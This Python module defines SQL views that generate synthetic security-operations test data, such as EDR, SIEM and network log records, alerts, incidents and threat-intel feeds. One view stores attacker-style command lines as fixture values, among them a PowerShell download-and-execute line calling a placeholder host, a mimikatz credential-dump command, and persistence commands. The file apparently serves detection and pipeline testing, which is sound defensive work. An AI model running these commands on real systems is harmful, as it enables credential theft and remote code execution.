"""The view definitions, written once in SQL both engines read.

A few functions differ by name; they are spelled as ``NAME[argument]`` and filled in
per engine. ``JSON[...]`` builds an object from alternating keys and values. The views
are test input only: no operator logic lives here.
"""

from __future__ import annotations

import base64
import re

AS_OF = "2024-01-30 00:00:00"

_ENCODED = base64.b64encode("Write-Output hello from the fixture".encode("utf-16-le")).decode()

SPARK = {
    "H": "sha2({0}, 256)",
    "ISO": "date_format({0}, \"yyyy-MM-dd'T'HH:mm:ss'Z'\")",
    "MICROS": "unix_micros({0})",
    "EPOCH": "unix_seconds({0})",
    "HOURS": "make_dt_interval(0, {0}, 0, 0)",
    "SECS": "make_dt_interval(0, 0, 0, {0})",
    "RANGE": "explode(sequence(cast(0 AS bigint), {0}))",
    "JSON": "to_json(named_struct({0}))",
}
DUCK = {
    "H": "sha256({0})",
    "ISO": "strftime({0}, '%Y-%m-%dT%H:%M:%SZ')",
    "MICROS": "epoch_us({0})",
    "EPOCH": "(epoch_us({0}) // 1000000)",
    "HOURS": "to_hours({0})",
    "SECS": "to_seconds({0})",
    "RANGE": "unnest(range(0, ({0}) + 1))",
    "JSON": "cast(json_object({0}) AS varchar)",
}


def render(sql: str, dialect: dict[str, str]) -> str:
    pattern = re.compile(r"\b(%s)\[([^\[\]]*)\]" % "|".join(dialect))
    while pattern.search(sql):
        sql = pattern.sub(lambda m: dialect[m.group(1)].format(m.group(2)), sql)
    return sql


VIEWS: dict[str, str] = {}

VIEWS["events_k"] = """
SELECT *, cast(regexp_extract(props, '([0-9]+)', 1) AS bigint) AS k FROM events
"""

VIEWS["sec_events"] = f"""
SELECT event_id, user_id, k, cast(ts AS timestamp) AS event_timestamp,
  CASE event_type WHEN 'error' THEN 'process' WHEN 'click' THEN 'http' WHEN 'view' THEN 'dns'
    WHEN 'signup' THEN 'authentication' ELSE 'file' END AS event_type,
  CASE WHEN event_id % 29 = 0 THEN NULL WHEN event_id % 31 = 0 THEN 'High'
    WHEN 1 + k % 10 <= 3 THEN 'low' WHEN 1 + k % 10 <= 5 THEN 'medium'
    WHEN 1 + k % 10 <= 7 THEN 'high' ELSE 'critical' END AS severity,
  CASE event_id % 3 WHEN 0 THEN 'crowdstrike' WHEN 1 THEN 'splunk' ELSE 'zeek' END AS source_system,
  CASE WHEN event_id % 23 <> 0 THEN 'host-' || cast(user_id % 40 AS string) END AS hostname,
  CASE WHEN event_id % 17 = 0 THEN NULL WHEN user_id % 10 = 0 THEN 'svc_' || cast(user_id AS string)
    ELSE 'user' || cast(user_id AS string) END AS user_name,
  CASE user_id % 4 WHEN 0 THEN '10.0.' WHEN 1 THEN '192.168.' WHEN 2 THEN '185.220.' ELSE '8.8.' END
    || cast(user_id % 256 AS string) || '.7' AS source_ip,
  CASE WHEN event_id % 19 <> 0 THEN CASE k % 5 WHEN 0 THEN '45.155.' WHEN 1 THEN '172.20.'
    WHEN 2 THEN '172.200.' WHEN 3 THEN '10.9.' ELSE '93.184.' END || cast(k AS string) || '.9' END AS destination_ip,
  CASE k % 8 WHEN 0 THEN 443 WHEN 1 THEN 80 WHEN 2 THEN 4444 WHEN 3 THEN 8080 WHEN 4 THEN 22
    WHEN 5 THEN 31337 WHEN 6 THEN 53 END AS destination_port,
  CASE event_id % 9 WHEN 0 THEN 'powershell.exe' WHEN 1 THEN 'cmd.exe' WHEN 2 THEN 'chrome.exe'
    WHEN 3 THEN 'mimikatz.exe' WHEN 4 THEN 'PsExec64.exe' WHEN 5 THEN 'svchost.exe'
    WHEN 6 THEN 'Tanium Client' WHEN 7 THEN 'certutil.exe' END AS process_name,
  CASE WHEN user_id % 13 = 0 THEN 'deadbeef' || substr(H[cast(user_id % 20 AS string)], 9)
    ELSE H[cast(user_id % 20 AS string)] END AS process_hash,
  CASE WHEN event_id % 7 = 0 THEN 'A1B2C3' || substr(H['f' || cast(event_id % 50 AS string)], 7)
    WHEN event_id % 3 = 1 THEN substr(H['f' || cast(k AS string)], 1, 40) END AS file_hash,
  CASE event_id % 12
    WHEN 0 THEN 'powershell -EncodedCommand {_ENCODED}'
    WHEN 1 THEN 'powershell -ExecutionPolicy Bypass -WindowStyle Hidden -File run.ps1'
    WHEN 2 THEN 'powershell IEX (New-Object Net.WebClient).DownloadString(http://example.test/a)'
    WHEN 3 THEN '[System.Reflection.Assembly]::Load(bytes)'
    WHEN 4 THEN 'schtasks /create /tn upd /tr calc.exe'
    WHEN 5 THEN 'reg add HKCU' || chr(92) || 'Software' || chr(92) || 'Run'
    WHEN 6 THEN 'sekurlsa::logonpasswords'
    WHEN 7 THEN 'sc create demo binPath= x.exe'
    WHEN 8 THEN 'wmic Win32_Process call Create calc.exe'
    WHEN 9 THEN 'chrome.exe --type=renderer'
    WHEN 10 THEN 'beacon sleeptime 60 jitter 10' END AS command_line,
  CASE k % 6 WHEN 0 THEN 'site.xyz' WHEN 1 THEN 'phish-login.com' WHEN 2 THEN 'example.com'
    WHEN 3 THEN 'cdn.example.org' WHEN 4 THEN 'A.TK' END AS domain,
  'rule_' || cast(k % 6 AS string) AS detection_rule,
  event_id % 10 < (k % 6) * 2 AS was_false_positive
FROM events_k
"""

_EDR = """JSON['event_simpleName', CASE event_id % 13 WHEN 0 THEN 'ProcessRollup2'
  WHEN 1 THEN 'SyntheticProcessRollup2' WHEN 2 THEN 'ProcessBlocked' WHEN 3 THEN 'NetworkConnectIP4'
  WHEN 4 THEN 'NetworkConnectIP6' WHEN 5 THEN 'DnsRequest' WHEN 6 THEN 'FileWritten'
  WHEN 7 THEN 'NewExecutableWritten' WHEN 8 THEN 'PeFileWritten' WHEN 9 THEN 'AsepValueUpdate'
  WHEN 10 THEN 'UserLogon' WHEN 11 THEN 'UserLogoff' ELSE 'SensorHeartbeat' END,
 'Severity', CASE event_id % 7 WHEN 0 THEN 'Informational' WHEN 1 THEN 'low' WHEN 2 THEN 'MEDIUM'
  WHEN 3 THEN 'High' WHEN 4 THEN 'critical' WHEN 5 THEN 'odd' END,
 'timestamp', CASE WHEN event_id % 41 = 0 THEN 'not-a-time' WHEN event_id % 5 <> 0 THEN ISO[event_timestamp] END,
 'ProcessStartTime', CASE WHEN event_id % 10 = 5 THEN ISO[event_timestamp] END,
 'FileName', CASE WHEN event_id % 43 <> 0 THEN process_name END, 'ImageFileName', 'image-' || process_name,
 'FilePath', 'C:/bin/' || process_name, 'SHA256HashData', process_hash, 'CommandLine', command_line,
 'ParentBaseFileName', 'explorer.exe', 'ParentProcessSHA256', H['explorer'],
 'LocalAddressIP4', source_ip, 'RemoteAddressIP4', destination_ip,
 'LocalPort', 40000 + event_id % 1000, 'RemotePort', destination_port, 'DomainName', domain,
 'TargetFileName', 'f' || cast(k AS string), 'TargetFilePath', '/tmp/f' || cast(k AS string),
 'TargetFileSHA256', file_hash]"""

_SIEM_COMMON = """'sourcetype', CASE event_id % 7 WHEN 0 THEN 'WinEventLog:Security'
  WHEN 1 THEN 'WinEventLog:System' WHEN 2 THEN 'linux:audit' WHEN 3 THEN 'pan:traffic'
  WHEN 4 THEN 'cisco:asa' WHEN 5 THEN 'aws:cloudtrail' ELSE 'other' END,
 'urgency', CASE event_id % 6 WHEN 0 THEN 'LOW' WHEN 1 THEN 'medium' WHEN 2 THEN 'high'
  WHEN 3 THEN 'Critical' WHEN 4 THEN 'informational' END,
 'timestamp', ISO[event_timestamp],
 'src_ip', CASE WHEN event_id % 43 <> 0 THEN source_ip ELSE '' END, 'src', 'src-' || source_ip,
 'dest_ip', CASE WHEN event_id % 43 <> 1 THEN destination_ip END, 'dest', destination_ip,
 'src_port', cast(1000 + event_id % 50 AS string), 'dest_port', destination_port,
 'protocol', CASE WHEN event_id % 4 < 2 THEN 'tcp' END, 'transport', 'udp'"""
_SIEM_NUM = f"JSON['_time', EPOCH[event_timestamp], {_SIEM_COMMON}]"
_SIEM_TEXT = f"""JSON['_time', CASE WHEN event_id % 41 = 0 THEN 'yesterday'
 WHEN event_id % 11 <> 0 THEN ISO[event_timestamp] ELSE '' END, {_SIEM_COMMON}]"""

_NDR_COMMON = """'_path', CASE event_id % 8 WHEN 0 THEN 'conn' WHEN 1 THEN 'dns' WHEN 2 THEN 'http'
  WHEN 3 THEN 'ssl' WHEN 4 THEN 'files' WHEN 5 THEN 'notice' WHEN 6 THEN 'weird' END,
 'ts', CASE WHEN event_id % 41 <> 0 THEN MICROS[event_timestamp] / cast(1000000 AS double) END,
 'conn_state', CASE event_id % 6 WHEN 0 THEN 'SF' WHEN 1 THEN 'S0' WHEN 2 THEN 'REJ'
  WHEN 3 THEN 'RSTO' WHEN 4 THEN 'RSTOS0' ELSE 'OTH' END,
 'id.orig_h', source_ip, 'id.resp_h', destination_ip, 'id.orig_p', 2000 + event_id % 30,
 'id.resp_p', destination_port, 'proto', 'tcp', 'query', domain, 'uri', '/p/' || cast(k AS string)"""
_NDR_BOOL = f"JSON['notice', k % 2 = 0, {_NDR_COMMON}]"
_NDR_TEXT = f"JSON['notice', CASE WHEN k % 3 = 0 THEN 'Scan::Port' WHEN k % 3 = 1 THEN '' END, {_NDR_COMMON}]"

VIEWS["messages_in"] = f"""
SELECT event_id, cast(event_id AS string) AS key,
  CASE WHEN event_id % 37 = 0 THEN '{{broken ' || cast(event_id AS string)
   WHEN event_id % 3 = 0 THEN {_EDR}
   WHEN event_id % 3 = 1 THEN CASE WHEN event_id % 2 = 0 THEN {_SIEM_NUM} ELSE {_SIEM_TEXT} END
   WHEN event_id % 2 = 0 THEN {_NDR_BOOL} ELSE {_NDR_TEXT} END AS value,
  CASE event_id % 3 WHEN 0 THEN 'soc.events.edr.crowdstrike' WHEN 1 THEN 'soc.events.siem.splunk'
   ELSE 'soc.events.network.zeek' END AS topic,
  cast(event_id % 4 AS int) AS partition, event_id AS offset,
  event_timestamp + INTERVAL 2 SECOND AS timestamp
FROM sec_events
"""

VIEWS["generic_in"] = """
SELECT event_id, cast(event_id AS string) AS key,
  CASE WHEN event_id % 37 = 0 THEN '[1, 2' ELSE JSON['timestamp',
    CASE WHEN event_id % 41 = 0 THEN '2024-13-45' WHEN event_id % 7 <> 0 THEN ISO[event_timestamp] END,
    'event_type', CASE WHEN event_id % 53 = 0 THEN 'telemetry' WHEN event_id % 3 <> 0 THEN event_type END,
    'severity', severity, 'category', CASE WHEN event_id % 2 = 0 THEN 'app' END] END AS value,
  'soc.events.raw' AS topic, cast(0 AS int) AS partition, event_id AS offset,
  event_timestamp + INTERVAL 2 SECOND AS timestamp
FROM sec_events
"""

# Flat stream messages (thirteen string fields) in the broker envelope.
VIEWS["stream_in"] = """
SELECT event_id, cast(event_id AS string) AS key,
  JSON['event_id', cast(event_id AS string), 'timestamp', ISO[event_timestamp], 'event_type', event_type,
    'severity', severity, 'source_system', source_system, 'source_ip', source_ip,
    'destination_ip', destination_ip, 'hostname', hostname, 'user', user_name,
    'process_name', process_name, 'process_hash', process_hash, 'command_line', command_line,
    'raw_data', 'k=' || cast(k AS string)] AS value,
  'soc.events.raw' AS topic, cast(event_id % 4 AS int) AS partition, event_id AS offset,
  event_timestamp + INTERVAL 2 SECOND AS timestamp
FROM sec_events
"""

# The same with unusable ones among them: cut off, missing, blank, with more behind the object, no object.
VIEWS["stream_mixed_in"] = """
SELECT event_id, key, CASE WHEN event_id % 37 = 0 THEN substr(value, 1, 40) WHEN event_id % 41 = 0 THEN NULL WHEN event_id % 43 = 0 THEN ' '
   WHEN event_id % 47 = 0 THEN value || ' {}' WHEN event_id % 53 = 0 THEN '[1, 2]' ELSE value END AS value, topic, partition, offset, timestamp
FROM stream_in
"""

VIEWS["alerts"] = """
SELECT H['alert:' || cast(event_id AS string)] AS alert_id, event_id, k,
  'Suspicious activity: ' || coalesce(process_name, 'Unknown process') AS title,
  'Detected from ' || source_system AS description,
  coalesce(lower(severity), 'medium') AS severity, source_system, detection_rule,
  CASE event_id % 7 WHEN 0 THEN 'new' WHEN 1 THEN 'triaging' WHEN 2 THEN 'investigating'
   WHEN 3 THEN 'escalated' WHEN 4 THEN 'resolved' WHEN 5 THEN 'false_positive' ELSE 'suppressed' END AS status,
  event_timestamp AS created_at, (k % 100) / cast(100 AS double) AS confidence,
  CASE k % 6 WHEN 0 THEN 'Execution' WHEN 1 THEN 'Persistence' WHEN 2 THEN 'Lateral Movement'
   WHEN 3 THEN 'Credential Access' WHEN 4 THEN 'Discovery' END AS tactic_name,
  CASE WHEN k % 25 = 0 THEN 'T1486' WHEN k % 6 < 5 THEN 'T1059' END AS technique_id,
  source_ip, destination_ip, hostname, user_name, process_hash, process_name, command_line, file_hash,
  was_false_positive
FROM sec_events
WHERE lower(severity) IN ('high', 'critical') OR event_id % 9 IN (0, 1, 7)
"""

# Alert to event id list, as rows.
VIEWS["alert_event_ids"] = """
SELECT alert_id, event_id + j AS event_id
FROM (SELECT alert_id, event_id, RANGE[event_id % 13] AS j FROM alerts) x
"""

VIEWS["incident_alerts"] = """
SELECT H['incident:' || cast(cast(floor(event_id / 50) AS bigint) AS string)] AS incident_id, alert_id, severity,
  created_at FROM alerts WHERE k % 5 <> 0
"""

VIEWS["incidents"] = """
SELECT incident_id, max(CASE severity WHEN 'critical' THEN 4 WHEN 'high' THEN 3 WHEN 'medium' THEN 2 ELSE 1 END) AS rank,
  CASE count(*) % 6 WHEN 0 THEN 'open' WHEN 1 THEN 'investigating' WHEN 2 THEN 'containing'
   WHEN 3 THEN 'eradicating' WHEN 4 THEN 'recovering' ELSE 'closed' END AS status,
  1 + count(*) % 5 AS priority, min(created_at) AS created_at
FROM incident_alerts GROUP BY incident_id
"""

VIEWS["assets"] = """
SELECT 'host-' || cast(c_custkey AS string) AS asset_key, 'host-' || cast(c_custkey AS string) AS hostname,
  CASE c_custkey % 4 WHEN 0 THEN 'low' WHEN 1 THEN 'medium' WHEN 2 THEN 'high' ELSE 'critical' END AS criticality,
  'owner-' || cast(c_nationkey AS string) AS owner, n_name AS department, 'HQ-Floor' || cast(c_custkey % 5 AS string) AS location
FROM customer JOIN nation ON n_nationkey = c_nationkey WHERE c_custkey % 7 <> 0
UNION ALL
SELECT DISTINCT CASE c_custkey % 4 WHEN 0 THEN '10.0.' ELSE '192.168.' END || cast(c_custkey % 256 AS string) || '.7',
  cast(NULL AS string), 'medium', 'IT Department', 'Engineering', 'HQ-Floor2'
FROM customer WHERE c_custkey % 4 IN (0, 1) AND c_custkey % 256 % 9 <> 0
"""

VIEWS["users"] = """
SELECT CASE WHEN c_custkey % 10 = 0 THEN 'svc_' ELSE 'user' END || cast(c_custkey AS string) AS username,
  c_mktsegment AS department, c_custkey % 10 = 0 AS privileged,
  cast(CASE WHEN c_custkey % 10 = 0 THEN 30 ELSE c_custkey % 20 END AS double) AS risk_score, c_custkey % 3 <> 0 AS mfa_enabled
FROM customer WHERE c_custkey % 11 <> 0
"""

# Feed records as they were polled: many sightings per indicator, confidence varying.
VIEWS["intel_feed"] = """
SELECT 'ip' AS type, destination_ip AS value, 0.5 + (k % 5) / cast(10 AS double) AS confidence, 'feed-' || cast(event_id % 2 AS string) AS source,
  event_timestamp AS seen_at, event_id AS seq FROM sec_events WHERE destination_ip IS NOT NULL AND k % 5 IN (0, 2)
UNION ALL
SELECT 'domain', lower(domain), 0.4 + (k % 3) / cast(10 AS double), 'feed-2', event_timestamp, event_id
FROM sec_events WHERE k % 6 IN (0, 1, 4)
UNION ALL
SELECT 'hash', process_hash, 0.9, 'feed-3', event_timestamp, event_id FROM sec_events WHERE user_id % 5 = 0
"""

VIEWS["geo_ranges"] = """
SELECT i * 16777216 AS start_ip, i * 16777216 + 16777215 AS end_ip, n_name AS country, 'AS' || cast(i AS string) AS asn
FROM (SELECT n_nationkey, n_name, n_nationkey + 25 * j AS i FROM (SELECT n_nationkey, n_name, RANGE[cast(10 AS bigint)] AS j FROM nation) y) z
WHERE i < 256
"""

# Overlapping ranges: nested ones, neighbours that cross, equal bounds, and one that holds all.
VIEWS["geo_overlaps"] = """
SELECT start_ip, end_ip, country, asn FROM geo_ranges
UNION ALL SELECT cast(0 AS bigint), cast(4294967295 AS bigint), 'ANYWHERE', 'AS0'
UNION ALL SELECT k * 16777216 + (c_custkey % 256) * 65536 + (c_custkey % 7) * 40, k * 16777216 + (c_custkey % 256) * 65536 + (c_custkey % 7) * 40 + 70000 * (1 + c_custkey % 3),
  n_name, 'AS' || cast(1000 + c_custkey % 50 AS string)
FROM (SELECT c_custkey, n_name, cast(CASE c_custkey % 6 WHEN 0 THEN 185 WHEN 1 THEN 8 WHEN 2 THEN 45 WHEN 3 THEN 93 WHEN 4 THEN 10 ELSE 172 END AS bigint) AS k
  FROM customer JOIN nation ON n_nationkey = c_nationkey) x
UNION ALL SELECT 3111944192 + c_custkey * 64, 3111944192 + c_custkey * 64 + 63, 'LAB', 'AS' || cast(c_custkey % 3 AS string) FROM customer WHERE c_custkey < 500
"""

VIEWS["node_writes"] = """
SELECT 'Asset' AS node_type, hostname AS node_id, 'criticality' AS prop,
  CASE k % 4 WHEN 0 THEN 'low' WHEN 1 THEN 'medium' WHEN 2 THEN 'high' ELSE 'critical' END AS val, event_timestamp AS written_at, event_id AS seq
FROM sec_events WHERE hostname IS NOT NULL
UNION ALL
SELECT 'Asset', hostname, 'last_user', user_name, event_timestamp, event_id FROM sec_events
WHERE hostname IS NOT NULL AND user_name IS NOT NULL AND event_id % 2 = 0
UNION ALL
SELECT 'User', user_name, 'risk_score', cast(k % 50 AS string), event_timestamp, event_id FROM sec_events WHERE user_name IS NOT NULL AND user_id % 11 <> 0
UNION ALL
SELECT 'IP', destination_ip, 'reputation', CASE WHEN k % 5 = 0 THEN '-80' ELSE '0' END, event_timestamp, event_id FROM sec_events WHERE destination_ip IS NOT NULL
"""

VIEWS["edge_writes"] = """
SELECT 'User' AS src_type, user_name AS src_id, 'ACCESSED' AS rel, 'Asset' AS dst_type, hostname AS dst_id, 'port' AS prop,
  cast(destination_port AS string) AS val, event_timestamp AS written_at, event_id AS seq
FROM sec_events WHERE user_name IS NOT NULL AND hostname IS NOT NULL
"""

VIEWS["graph_edges"] = """
SELECT DISTINCT 'User' AS src_type, user_name AS src_id, 'ACCESSED' AS rel, 'Asset' AS dst_type, hostname AS dst_id
FROM sec_events WHERE user_name IS NOT NULL AND hostname IS NOT NULL
UNION ALL
SELECT 'User', CASE WHEN c_custkey % 10 = 0 THEN 'svc_' ELSE 'user' END || cast(c_custkey AS string), 'MEMBER_OF', 'Group', c_mktsegment FROM customer
UNION ALL
SELECT 'Asset', 'host-' || cast(c_custkey AS string), 'BELONGS_TO', 'Department', n_name FROM customer JOIN nation ON n_nationkey = c_nationkey
UNION ALL
SELECT DISTINCT 'Asset', 'host-' || cast(p_partkey % 40 AS string), 'HAS_VULNERABILITY', 'Vulnerability', 'CVE-2024-' || cast(p_partkey % 1000 AS string) FROM part
UNION ALL
SELECT DISTINCT 'IP', destination_ip, 'ASSOCIATED_WITH', 'ThreatActor', 'Unknown APT' FROM sec_events WHERE k % 5 = 0 AND destination_ip IS NOT NULL
UNION ALL
SELECT DISTINCT 'IP', destination_ip, 'RESOLVES_TO', 'Domain', domain FROM sec_events WHERE destination_ip IS NOT NULL AND domain IS NOT NULL
"""

VIEWS["graph_nodes"] = """
SELECT 'Asset' AS node_type, 'host-' || cast(c_custkey AS string) AS node_id, CASE c_custkey % 4 WHEN 0 THEN 'low' WHEN 1 THEN 'medium' WHEN 2 THEN 'high' ELSE 'critical' END AS criticality,
  cast(NULL AS double) AS risk_score, cast(NULL AS boolean) AS privileged, cast(NULL AS bigint) AS reputation
FROM customer WHERE c_custkey % 7 <> 0
UNION ALL
SELECT 'User', CASE WHEN c_custkey % 10 = 0 THEN 'svc_' ELSE 'user' END || cast(c_custkey AS string), cast(NULL AS string),
  CASE WHEN c_custkey % 3 <> 0 THEN cast(c_custkey % 50 AS double) END, CASE WHEN c_custkey % 10 = 0 THEN true END, cast(NULL AS bigint)
FROM customer WHERE c_custkey % 11 <> 0
UNION ALL
SELECT DISTINCT 'IP', destination_ip, cast(NULL AS string), cast(NULL AS double), cast(NULL AS boolean), cast(CASE WHEN k % 5 = 0 THEN -80 ELSE 0 END AS bigint)
FROM sec_events WHERE destination_ip IS NOT NULL AND k % 7 <> 0
"""

VIEWS["task_routes"] = """
SELECT alert_id, event_id, k, severity, created_at, 'triage' AS agent_type FROM alerts
UNION ALL SELECT alert_id, event_id, k, severity, created_at, 'threat_intel' FROM alerts
UNION ALL SELECT alert_id, event_id, k, severity, created_at, CASE WHEN k % 6 < 2 THEN 'malware' ELSE 'network' END FROM alerts WHERE k % 6 IN (0, 1, 2, 4)
UNION ALL SELECT alert_id, event_id, k, severity, created_at, 'identity' FROM alerts WHERE k % 6 = 3
"""

VIEWS["tasks"] = """
SELECT H['task:' || cast(event_id AS string) || ':' || agent_type] AS task_id, agent_type,
  CASE agent_type WHEN 'triage' THEN 'assess_alert' WHEN 'malware' THEN 'analyze_artifact' WHEN 'threat_intel' THEN 'enrich_iocs'
   WHEN 'network' THEN 'analyze_traffic' ELSE 'recommend_actions' END AS task_type,
  CASE severity WHEN 'critical' THEN 1 WHEN 'high' THEN 2 WHEN 'medium' THEN 3 ELSE 4 END AS priority,
  created_at AS assigned_at, CASE k % 3 WHEN 0 THEN 'pending' WHEN 1 THEN 'completed' ELSE 'failed' END AS status,
  k * 10 AS execution_ms, alert_id
FROM task_routes
"""

VIEWS["status_updates"] = """
SELECT alert_id, j AS step, created_at + HOURS[cast(j AS int)] AS changed_at,
  CASE (k + j) % 7 WHEN 0 THEN 'new' WHEN 1 THEN 'triaging' WHEN 2 THEN 'investigating' WHEN 3 THEN 'escalated'
   WHEN 4 THEN 'resolved' WHEN 5 THEN 'false_positive' ELSE 'suppressed' END AS status
FROM (SELECT alert_id, k, created_at, RANGE[event_id % 3] AS j FROM alerts) x
"""

VIEWS["kv_writes"] = """
SELECT 'session-' || cast(user_id % 20 AS string) AS session_id, 'key-' || cast(k % 5 AS string) AS item, event_id AS seq,
  'v' || cast(event_id AS string) AS value, event_timestamp AS written_at, 60 * (1 + k) AS ttl_seconds FROM sec_events
"""

VIEWS["agent_messages"] = """
SELECT event_id AS message_id, CASE k % 3 WHEN 0 THEN 'triage' WHEN 1 THEN 'malware' ELSE 'orchestrator' END AS from_agent,
  CASE WHEN k % 9 = 0 THEN NULL WHEN k % 7 = 0 THEN 'triage' WHEN k % 7 < 3 THEN 'malware' ELSE 'response' END AS to_agent,
  event_timestamp AS sent_at, 3600 * (1 + k % 24) AS ttl_seconds FROM sec_events
"""

VIEWS["metrics"] = """
SELECT event_type AS metric, cast(ts AS timestamp) AS observed_at, event_id AS seq, value FROM events
"""

VIEWS["contract_records"] = """
SELECT event_id AS row_id, event_timestamp,
  CASE WHEN event_id % 13 = 0 THEN NULL WHEN event_id % 14 = 0 THEN 'not-a-uuid' ELSE substr(H[cast(event_id AS string)], 1, 8) || '-' || substr(H[cast(event_id AS string)], 9, 4) || '-'
   || substr(H[cast(event_id AS string)], 13, 4) || '-' || substr(H[cast(event_id AS string)], 17, 4) || '-' || substr(H[cast(event_id AS string)], 21, 12) END AS event_id,
  CASE WHEN event_id % 41 = 0 THEN 'soon' WHEN event_id % 39 <> 0 THEN ISO[event_timestamp] END AS timestamp,
  hostname,
  CASE event_id % 11 WHEN 0 THEN 'ProcessCreate' WHEN 1 THEN 'ProcessTerminate' WHEN 2 THEN 'FileCreate' WHEN 3 THEN 'FileModify'
   WHEN 4 THEN 'FileDelete' WHEN 5 THEN 'NetworkConnect' WHEN 6 THEN 'RegistryModify' WHEN 7 THEN 'DnsQuery' WHEN 8 THEN 'ImageLoad'
   WHEN 9 THEN 'Detection' ELSE 'Heartbeat' END AS event_type,
  severity, process_name,
  CASE WHEN event_id % 27 = 0 THEN 'xyz' WHEN event_id % 5 <> 0 THEN process_hash END AS process_hash,
  user_name AS user, CASE WHEN event_id % 31 = 0 THEN '999.1.1.1' ELSE source_ip END AS source_ip, destination_ip,
  CASE WHEN event_id % 33 = 0 THEN '80.5' ELSE cast(destination_port AS string) END AS destination_port, file_hash,
  CASE WHEN event_id % 43 = 0 THEN 'high' WHEN event_id % 47 = 0 THEN 'NaN' ELSE cast((k * 13 % 120) / cast(100 AS double) AS string) END AS confidence,
  (k * 7) % 110 AS risk_score, cast(k % 7 AS bigint) AS priority,
  event_timestamp + SECS[cast(k AS int)] AS received_at
FROM sec_events
"""
